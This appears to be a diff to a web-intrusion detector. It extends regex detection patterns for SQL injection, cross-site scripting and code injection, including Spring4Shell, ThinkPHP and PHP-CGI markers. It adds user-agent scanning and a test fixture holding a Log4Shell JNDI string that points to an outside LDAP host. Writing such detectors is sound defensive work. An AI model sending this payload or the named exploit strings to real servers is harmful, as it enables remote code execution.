@@ -6,6 +6,8 @@ import re
 from dataclasses import dataclass, field
 from datetime import timedelta
 
+from msgspec.structs import replace
+
 from detectors.base import Example, History, Window
 from detectors.intrusion.web import (
     FAMILY,
@@ -40,11 +42,13 @@ KINDS = (
         r"['\"`)]\s*(?:or|and)\s+['\"`]?\w+['\"`]?\s*(?:=|like)|\b(?:or|and)\s+\d+\s*=\s*\d+|"
         r"\b(?:sleep|benchmark|pg_sleep|extractvalue|updatexml)\s*\(|waitfor\s+delay|"
         r"information_schema|@@version|concat\s*\(\s*0x|['\"]\s*(?:--|#|/\*)|"
+        r"\bload_file\s*\(|\|\|\s*chr\s*\(|(?:,\s*null){2}|"
         r";\s*(?:drop|insert|update|delete|exec)\s",
     ),
     (
         "cross-site scripting",
-        r"<\s*(?:script|svg|iframe|img|body|object|embed)\b|javascript:|vbscript:|"
+        r"<\s*(?:script|svg|iframe|img|body|object|embed|meta|style|input|frameset)\b|"
+        r"javascript:|vbscript:|"
         r"\bon(?:error|load|mouseover|focus|click)\s*=|\balert\s*\(|\bprompt\s*\(|"
         r"document\.(?:cookie|domain)|string\.fromcharcode",
     ),
@@ -52,7 +56,13 @@ KINDS = (
     # application appends is a query (Nikto's `?lang=http://cirt.net/rfiinc.txt?`); a link
     # with a query of its own (`?next=https://host/p?a=b`) is none.
     ("remote file inclusion", r"=(?:https?|ftps?)://[^\s&?]+\?(?:\?|&|$)"),
-    ("code injection", r"\$\{jndi:|\(\)\s*\{\s*:?\s*;\s*\}|\bcmd=|;\s*(?:wget|curl)\s|\|\s*id\b"),
+    (
+        "code injection",
+        r"\$\{jndi:|\(\)\s*\{\s*:?\s*;\s*\}|\bcmd=|;\s*(?:wget|curl)\s|\|\s*id\b|\$\{ifs\}|"
+        # ThinkPHP and ThinkCMF, Spring4Shell, PHP-CGI's arguments, Java's exec
+        r"invokefunction|call_user_func_array|<php>|class\.module\.classloader|"
+        r"auto_prepend_file|allow_url_include|getruntime\(\)\.exec",
+    ),
 )
 PATTERNS = tuple((kind, re.compile(pattern)) for kind, pattern in KINDS)
 
@@ -67,6 +77,25 @@ def kind_of_attack(url: str) -> str | None:
 
 
 attack_in = remembered(kind_of_attack, 8192)
+CODE_INJECTION = dict(PATTERNS)["code injection"]
+
+
+def code_in_agent(agent: str) -> str | None:
+    """Code injection in a user agent (Log4Shell's `${jndi:`, Shellshock's `() {`): a
+    header the application or a CGI may evaluate. Other kinds are not looked for there: an
+    agent's parentheses and semicolons are no SQL."""
+    return "code injection" if CODE_INJECTION.search(decoded(agent)) else None
+
+
+attack_in_agent = remembered(code_in_agent, 4096)
+
+
+def attack_of(event: Event) -> str | None:
+    """The kind of attack a request carries in its URL, else in its user agent."""
+    kind = attack_in(target(event))
+    if kind is None and event.user_agent:
+        return attack_in_agent(event.user_agent)
+    return kind
 
 
 @dataclass(frozen=True, slots=True)
@@ -101,12 +130,12 @@ class Injection:
         object.__setattr__(self, "reporter", Reporter(self, window, self.settings.attempts))
 
     def admits(self, event: Event) -> bool:
-        return is_access(event) and attack_in(target(event)) is not None
+        return is_access(event) and attack_of(event) is not None
 
     def evaluate(self, event: Event, history: History) -> Finding | None:
         if not is_access(event):
             return None
-        kind = attack_in(target(event))
+        kind = attack_of(event)
         if kind is None:
             return None
         count = self.reporter.count(event, history)
@@ -132,6 +161,8 @@ class Injection:
             Example(name, (request(ip, url, 200, offset=i),), fires=True)
             for i, (name, url) in enumerate(payloads.items())
         )
+        log4shell = "${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/KGN1cmwgLXMg}"
+        in_agent = replace(request(ip, "/", 401), user_agent=log4shell)
         benign = [
             "/customers/search?q=O%27Brien",
             "/tracking?awb=738-12345675",
@@ -141,5 +172,6 @@ class Injection:
         ]
         return (
             *firing,
+            Example("Log4Shell in the user agent", (in_agent,), fires=True),
             Example("a visitor's searches and pages", spaced(ip, benign, 200, timedelta(1)), False),
         )
